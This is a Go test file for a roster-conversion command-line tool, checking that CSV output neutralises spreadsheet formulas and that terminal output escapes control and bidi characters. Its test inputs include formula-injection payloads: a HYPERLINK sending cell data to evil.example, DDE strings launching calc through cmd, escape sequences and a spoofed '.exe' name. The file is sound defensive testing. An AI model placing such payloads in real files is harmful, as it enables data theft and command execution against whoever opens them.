package cli

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostile are cell values a spreadsheet would run as formulas, or a terminal would obey.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1;"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// writeCapti writes a Capti roster whose first_name cells are names (one row per name).
func writeCapti(t *testing.T, dir, file string, names []string) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("email,password,first_name,last_name,person_number,unique_id\n")
	w := csv.NewWriter(&b)
	for i, n := range names {
		w.Write([]string{"s" + string(rune('a'+i)) + "@example.org", "pw", n, "Doe", "100" + string(rune('0'+i)), "stu" + string(rune('a'+i))}) //nolint:errcheck
	}
	w.Flush()
	p := filepath.Join(dir, file)
	if err := os.WriteFile(p, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// Every cell of diff -o csv and validate -o csv that a spreadsheet would run as a formula is
// neutralised with a leading single quote (OWASP's rule).
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	dir := t.TempDir()
	plain := make([]string, len(hostile))
	for i := range plain {
		plain[i] = "Name" + string(rune('A'+i))
	}
	old := writeCapti(t, dir, "old.csv", plain)
	cur := writeCapti(t, dir, "new.csv", hostile)
	_, stdout, stderr := runCLI(t, nil, false, "diff", "-o", "csv", old, cur)
	checkCSVCells(t, "diff -o csv", stdout, stderr, len(hostile)-1) // the CR row is a parse problem, not read

	// validate: a header name and a file name are shown in cells too.
	bad := filepath.Join(dir, "=cmd.csv")
	if err := os.WriteFile(bad, []byte("email,password,first_name,last_name,person_number,unique_id,"+csvQuote(hostile[0])+"\na@example.org,pw,A,B,1,u1,x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, stdout, stderr = runCLI(t, nil, false, "validate", "-o", "csv", "--format", "capti", bad)
	checkCSVCells(t, "validate -o csv", stdout, stderr, 1)
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

func checkCSVCells(t *testing.T, what, stdout, stderr string, atLeast int) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatalf("%s: not CSV: %v\n%s", what, err, stdout)
	}
	neutralised := 0
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: cell %q starts with %q (stderr %q)", what, c, c[:1], stderr)
			}
			if strings.HasPrefix(c, "'") {
				neutralised++
			}
		}
	}
	if neutralised < atLeast {
		t.Errorf("%s: %d cells neutralised, want at least %d:\n%s", what, neutralised, atLeast, stdout)
	}
}

// Table and text output show control and bidi characters escaped, never raw.
func TestTerminalOutputEscapes(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	dir := t.TempDir()
	evil := []string{"\x1b[2JCleared", "Ann\u202Egnp.exe", "Bell\x07", "Zero\u200bWidth"}
	old := writeCapti(t, dir, "old.csv", []string{"A", "B", "C", "D"})
	cur := writeCapti(t, dir, "new.csv", evil)
	for _, style := range []string{"table", "text"} {
		_, stdout, stderr := runCLI(t, nil, false, "diff", "-o", style, "--limit", "0", old, cur)
		for _, raw := range []string{"\x1b", "\u202E", "\x07", "\u200b"} {
			if strings.Contains(stdout+stderr, raw) {
				t.Errorf("diff -o %s prints %q raw:\n%s", style, raw, stdout)
			}
		}
		for _, esc := range []string{`\x1b[2JCleared`, `Ann\u202egnp.exe`} {
			if !strings.Contains(stdout, esc) {
				t.Errorf("diff -o %s does not show %s:\n%s", style, esc, stdout)
			}
		}
	}
	// validate's text and table output: a header name with an escape sequence.
	bad := filepath.Join(dir, "bad.csv")
	if err := os.WriteFile(bad, []byte("email,password,first_name,last_name,person_number,unique_id,\x1b[2Jx\u202E\na@example.org,pw,A,B,1,u1,x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, style := range []string{"table", "text"} {
		_, stdout, stderr := runCLI(t, nil, false, "validate", "-o", style, "--format", "capti", bad)
		if strings.Contains(stdout+stderr, "\x1b") || strings.Contains(stdout+stderr, "\u202E") {
			t.Errorf("validate -o %s prints control characters raw:\n%s", style, stdout)
		}
		if !strings.Contains(stdout, `\x1b[2Jx\u202e`) {
			t.Errorf("validate -o %s does not show the escaped column:\n%s", style, stdout)
		}
	}
}

// A refused convert to stdout writes nothing there: not even the header.
func TestConvertRefusedStdoutEmpty(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	// usernames with dots cannot be Capti IDs: every row is refused.
	code, stdout, stderr := runCLI(t, nil, false, "convert", "--to", "capti", "--capti-id", "username", filepath.Join(examples, "oneroster"), "-")
	if code != ExitFindings || stdout != "" {
		t.Errorf("exit %d, stdout %q, want 1 and nothing (stderr %q)", code, stdout, stderr)
	}
	code, stdout, _ = runCLI(t, nil, false, "convert", "--to", "capti", filepath.Join(examples, "oneroster"), "-")
	if code != ExitOK || !strings.HasPrefix(stdout, "email,password,") {
		t.Errorf("exit %d, stdout %.80q, want 0 and the roster", code, stdout)
	}
}

// A lone file no format recognises because it uses another separator says so.
func TestUndetectedOtherSeparator(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	p := filepath.Join(t.TempDir(), "export.csv")
	if err := os.WriteFile(p, []byte("email;password;first_name;last_name;person_number;unique_id\na@x.org;pw;A;B;1;u1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, _, stderr := runCLI(t, nil, false, "validate", p)
	if code != ExitLocal || !strings.Contains(stderr, `splits on ";"`) || !strings.Contains(stderr, "CSV UTF-8 (Comma delimited)") {
		t.Errorf("exit %d, stderr %q: want 3 and a hint naming the separator", code, stderr)
	}
}
